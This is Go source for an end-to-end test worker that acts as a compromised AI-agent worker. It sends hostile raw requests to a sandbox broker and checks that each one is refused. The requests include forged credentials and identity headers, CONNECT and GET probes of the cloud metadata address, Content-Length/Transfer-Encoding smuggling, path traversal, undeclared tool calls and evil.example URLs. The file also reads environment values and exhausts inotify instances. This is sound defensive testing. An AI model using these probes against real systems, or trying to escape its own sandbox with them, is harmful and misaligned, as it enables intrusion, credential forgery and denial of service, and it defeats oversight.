// Command hostile is a worker image for the end-to-end tests that behaves as a
// compromised worker: instead of running the agent loop it talks raw HTTP/1.1
// to the broker socket with forged identity, forged credentials, undeclared
// tools and routes, and header smuggling tricks, and prints what it got as
// its one reply JSON object. It also reports what the container lets it see
// (environment names, uid, capabilities, network interfaces, writable root).
//
// With a turn text starting "EXHAUST" it instead uses up a per-user kernel
// budget of its uid and holds it (see exhaust).
//
// Guarantee: every request body carries a marker "HOSTILE-<name>" so the
// tests can prove the fake upstreams never saw any refused call; exactly one
// request ("control") is well-formed and is expected to pass.
package main

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
)

const sock = "/run/broker/broker.sock"

type probe struct {
	Name string
	Raw  func(marker string) string // the whole request
}

// req builds a raw request; extra headers are added verbatim.
func req(method, target, auth, body string, extra ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: broker\r\n", method, target)
	if auth != "" {
		fmt.Fprintf(&b, "Authorization: Bearer %s\r\n", auth)
	}
	b.WriteString("Content-Type: application/json\r\n")
	for _, h := range extra {
		b.WriteString(h + "\r\n")
	}
	if !strings.Contains(strings.Join(extra, "\n"), "Transfer-Encoding") {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
	}
	b.WriteString("\r\n")
	b.WriteString(body)
	return b.String()
}

// model is the turn's model (from stdin): the broker refuses any other, so
// every probe uses it and is refused for its own reason.
var model = "unknown"

func chat(marker string, extra string) string {
	return `{"model":"` + model + `","messages":[{"role":"user","content":"` + marker + `"` + extra + `}]}`
}

const dummy = "sandbox-dummy-key"

var probes = []probe{
	{"control", func(m string) string { return req("POST", "/model", dummy, chat(m, "")) }},
	{"no_credential", func(m string) string { return req("POST", "/model", "", chat(m, "")) }},
	{"forged_credential", func(m string) string { return req("POST", "/model", "sk-forged-"+m, chat(m, "")) }},
	{"forged_identity_header", func(m string) string {
		return req("POST", "/model", dummy, chat(m, ""), "X-Sandbox-Channel: other-channel", "X-Sandbox-Speaker: admin")
	}},
	{"forged_identity_host_tool", func(m string) string {
		return req("POST", "/tools/whoami", dummy, `{"channel":"other-channel","speaker":{"id":"admin"},"principalId":"root","note":"`+m+`"}`)
	}},
	{"undeclared_tool", func(m string) string { return req("POST", "/tools/shell", dummy, `{"cmd":"`+m+`"}`) }},
	{"undeclared_mcp_server", func(m string) string {
		return req("POST", "/mcp/evil", dummy, `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"lookup","arguments":{"q":"`+m+`"}}}`)
	}},
	{"undeclared_mcp_tool", func(m string) string {
		return req("POST", "/mcp/search", dummy, `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"delete_all","arguments":{"q":"`+m+`"}}}`)
	}},
	{"mcp_discovery", func(m string) string {
		return req("POST", "/mcp/search", dummy, `{"jsonrpc":"2.0","id":"`+m+`","method":"tools/list","params":{}}`)
	}},
	{"mcp_batch", func(m string) string {
		return req("POST", "/mcp/search", dummy, `[{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"lookup","arguments":{"q":"`+m+`"}}}]`)
	}},
	{"get_model", func(m string) string { return req("GET", "/model?"+m, dummy, "") }},
	{"query_string", func(m string) string { return req("POST", "/model?x="+m, dummy, chat(m, "")) }},
	{"extra_segment", func(m string) string { return req("POST", "/model/"+m, dummy, chat(m, "")) }},
	{"traversal", func(m string) string { return req("POST", "/tools/../model", dummy, chat(m, "")) }},
	{"unknown_route", func(m string) string { return req("POST", "/admin", dummy, chat(m, "")) }},
	{"absolute_url", func(m string) string { return req("POST", "http://evil.example/model", dummy, chat(m, "")) }},
	// The proxy route exists only for a policy with an egress grant; a turn
	// has none, so both proxy forms meet the broker's strict refusals.
	{"connect_metadata", func(string) string { return "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254:80\r\n\r\n" }},
	{"absolute_get_metadata", func(string) string {
		return "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
	}},
	{"forwarded_header", func(m string) string {
		return req("POST", "/model", dummy, chat(m, ""), "X-Forwarded-For: 10.0.0.1", "Forwarded: for=10.0.0.1")
	}},
	{"cookie", func(m string) string { return req("POST", "/model", dummy, chat(m, ""), "Cookie: session=x") }},
	{"upgrade", func(m string) string {
		return req("POST", "/model", dummy, chat(m, ""), "Connection: Upgrade", "Upgrade: websocket")
	}},
	{"proxy_authorization", func(m string) string {
		return req("POST", "/model", dummy, chat(m, ""), "Proxy-Authorization: Basic eDp5")
	}},
	{"cl_and_te", func(m string) string {
		body := chat(m, "")
		return fmt.Sprintf("POST /model HTTP/1.1\r\nHost: broker\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\n"+
			"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", dummy, len(body), len(body), body)
	}},
	{"media_url", func(m string) string {
		return req("POST", "/model", dummy, `{"model":"`+model+`","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/`+m+`.png"}}]}]}`)
	}},
	{"remote_schema_ref", func(m string) string {
		return req("POST", "/model", dummy, `{"model":"`+model+`","messages":[{"role":"user","content":"`+m+`"}],"tools":[{"type":"function","function":{"name":"f","parameters":{"$ref":"https://evil.example/schema.json"}}}]}`)
	}},
	{"native_provider_tool", func(m string) string {
		return req("POST", "/model", dummy, `{"model":"`+model+`","messages":[{"role":"user","content":"`+m+`"}],"tools":[{"type":"web_search"}]}`)
	}},
	{"developer_role", func(m string) string {
		return req("POST", "/model", dummy, `{"model":"`+model+`","messages":[{"role":"developer","content":"`+m+`"}]}`)
	}},
}

// result of one probe.
type result struct {
	Status int    `json:"status"` // 0: connection failed or closed without a response
	Error  string `json:"error,omitempty"`
	Body   string `json:"body,omitempty"` // the broker's answer, first 200 bytes
}

func send(raw string) result {
	c, err := net.DialTimeout("unix", sock, 5*time.Second)
	if err != nil {
		return result{Error: "dial: " + err.Error()}
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	if _, err := io.WriteString(c, raw); err != nil {
		return result{Error: "write: " + err.Error()}
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return result{Error: "read: " + err.Error()}
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 200))
	return result{Status: resp.StatusCode, Body: strings.TrimSpace(string(body))}
}

const prGetNoNewPrivs = 39 // PR_GET_NO_NEW_PRIVS

func observe() map[string]any {
	o := map[string]any{"uid": os.Getuid(), "gid": os.Getgid()}
	var names []string
	for _, kv := range os.Environ() {
		names = append(names, kv) // values too: only the dummy key may be here
	}
	o["env"] = names
	if data, err := os.ReadFile("/proc/self/status"); err == nil {
		for _, line := range strings.Split(string(data), "\n") {
			if strings.HasPrefix(line, "CapEff:") || strings.HasPrefix(line, "NoNewPrivs:") {
				k, v, _ := strings.Cut(line, ":")
				o[k] = strings.TrimSpace(v)
			}
		}
	}
	// The kernel's own answer: gVisor's /proc/self/status has no
	// NoNewPrivs line.
	if v, _, errno := syscall.Syscall(syscall.SYS_PRCTL, prGetNoNewPrivs, 0, 0); errno == 0 {
		o["NoNewPrivsPrctl"] = strconv.Itoa(int(v))
	}
	var ifs []string
	if list, err := net.Interfaces(); err == nil {
		for _, i := range list {
			ifs = append(ifs, i.Name)
		}
	}
	o["interfaces"] = ifs
	if f, err := os.Create("/hostile-was-here"); err == nil {
		f.Close()
		o["rootWritable"] = true
	} else {
		o["rootWritable"] = false
	}
	_, err := net.DialTimeout("tcp", "1.1.1.1:443", 2*time.Second)
	o["outboundTCP"] = err == nil
	// The container's ulimits (nofile, nproc) and IpcMode none (no /dev/shm),
	// as the runtime applied them.
	for name, res := range map[string]int{"rlimitNofile": syscall.RLIMIT_NOFILE, "rlimitNproc": rlimitNproc} {
		var l syscall.Rlimit
		if syscall.Getrlimit(res, &l) == nil {
			o[name] = fmt.Sprintf("%d:%d", l.Cur, l.Max)
		}
	}
	if f, err := os.CreateTemp("/dev/shm", "hostile"); err == nil {
		f.Close()
		o["devShmWritable"] = true
	} else {
		o["devShmWritable"] = false
	}
	return o
}

const rlimitNproc = 6 // RLIMIT_NPROC

// exhaust takes every inotify instance its uid may have (the kernel's
// per-user fs.inotify.max_user_instances, 128 by default; at most 4096
// here), reports how far it got in /workspace/exhausted, and holds them
// until the test writes /workspace/release (or 60 s pass). Run as the host's
// uid, this would leave the host's uid without any.
func exhaust() {
	var fds []int
	var last error
	for len(fds) < 4096 {
		fd, err := syscall.InotifyInit1(syscall.IN_CLOEXEC)
		if err != nil {
			last = err
			break
		}
		fds = append(fds, fd)
	}
	report := map[string]any{"instances": len(fds), "uid": os.Getuid(), "gid": os.Getgid()}
	if last != nil {
		report["error"] = last.Error()
	}
	data, _ := json.Marshal(report)
	_ = os.WriteFile("/workspace/exhausted.tmp", data, 0o600)
	_ = os.Rename("/workspace/exhausted.tmp", "/workspace/exhausted")
	for end := time.Now().Add(60 * time.Second); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		if _, err := os.Stat("/workspace/release"); err == nil {
			break
		}
	}
	out, _ := json.Marshal(map[string]any{"ok": true, "text": string(data)})
	fmt.Println(string(out))
}

// restart makes one good call, says so in /workspace/called, waits for
// /workspace/release (the test kills the broker meanwhile; at most 60 s),
// and makes the same call again: a broker started again by its socket would
// answer it with fresh budgets.
func restart() {
	first := send(probes[0].Raw("HOSTILE-restart-first"))
	_ = os.WriteFile("/workspace/called", nil, 0o600)
	for end := time.Now().Add(60 * time.Second); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		if _, err := os.Stat("/workspace/release"); err == nil {
			break
		}
	}
	second := send(probes[0].Raw("HOSTILE-restart-second"))
	text, _ := json.Marshal(map[string]result{"first": first, "second": second})
	out, _ := json.Marshal(map[string]any{"ok": true, "text": string(text)})
	fmt.Println(string(out))
}

func main() {
	if len(os.Args) > 1 && os.Args[1] == "proxy-client" {
		proxyClient(os.Args[2:])
		return
	}
	var turn struct {
		Model string `json:"model"`
		Text  string `json:"text"`
	}
	if data, err := io.ReadAll(io.LimitReader(os.Stdin, 1<<20)); err == nil && json.Unmarshal(data, &turn) == nil && turn.Model != "" {
		model = turn.Model
	}
	if strings.HasPrefix(turn.Text, "EXHAUST") {
		exhaust()
		return
	}
	if strings.HasPrefix(turn.Text, "RESTART") {
		restart()
		return
	}
	// "FLOOD <n> <marker>" and "LOG <n> <marker>": n numbered stderr lines,
	// as fast as the pipe takes them, then a reply.
	if f := strings.Fields(turn.Text); len(f) == 3 && (f[0] == "FLOOD" || f[0] == "LOG") {
		n, _ := strconv.Atoi(f[1])
		w := bufio.NewWriterSize(os.Stderr, 64<<10)
		for i := 0; i < n; i++ {
			fmt.Fprintf(w, "%s %d\n", f[2], i)
		}
		w.Flush()
		fmt.Println(`{"ok":true,"text":"wrote ` + f[1] + ` lines"}`)
		return
	}
	// "PROBES <from> <to>": the control and probes[from:to] only, so a test
	// can keep each turn under the broker's refusal budget (16 a turn) and
	// see every probe refused for its own reason.
	run := probes
	if f := strings.Fields(turn.Text); len(f) == 3 && f[0] == "PROBES" {
		from, _ := strconv.Atoi(f[1])
		to, _ := strconv.Atoi(f[2])
		from, to = max(1, min(from, len(probes))), max(1, min(to, len(probes)))
		run = append([]probe{probes[0]}, probes[from:max(from, to)]...)
	}
	results := map[string]result{}
	for _, p := range run {
		results[p.Name] = send(p.Raw("HOSTILE-" + p.Name))
	}
	text, _ := json.Marshal(map[string]any{"probes": results, "observed": observe(), "total": len(probes)})
	out, _ := json.Marshal(map[string]any{"ok": true, "text": string(text)})
	fmt.Println(string(out))
}

// proxyClient is the e2e proxy test's client: it GETs each URL through the
// proxy that HTTPS_PROXY (https) or HTTP_PROXY (http) names, trusting the CA
// in E2E_CA_PEM, or with no proxy at all for a URL prefixed "direct:", and
// prints one JSON object of results keyed by the URL as given. (Go's own
// ProxyFromEnvironment never proxies loopback destinations, which are the
// test's, so the variables are read here.)
func proxyClient(urls []string) {
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM([]byte(os.Getenv("E2E_CA_PEM")))
	out := map[string]result{}
	for _, raw := range urls {
		target, direct := strings.CutPrefix(raw, "direct:")
		tr := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}, DisableKeepAlives: true}
		if !direct {
			env := "HTTP_PROXY"
			if strings.HasPrefix(target, "https:") {
				env = "HTTPS_PROXY"
			}
			pu, err := url.Parse(os.Getenv(env))
			if err != nil || pu.Host == "" {
				out[raw] = result{Error: env + " unset or malformed"}
				continue
			}
			tr.Proxy = http.ProxyURL(pu)
		}
		resp, err := (&http.Client{Transport: tr, Timeout: 20 * time.Second}).Get(target)
		if err != nil {
			out[raw] = result{Error: err.Error()}
			continue
		}
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 200))
		resp.Body.Close()
		out[raw] = result{Status: resp.StatusCode, Body: strings.TrimSpace(string(body))}
	}
	data, _ := json.Marshal(out)
	fmt.Println(string(data))
}
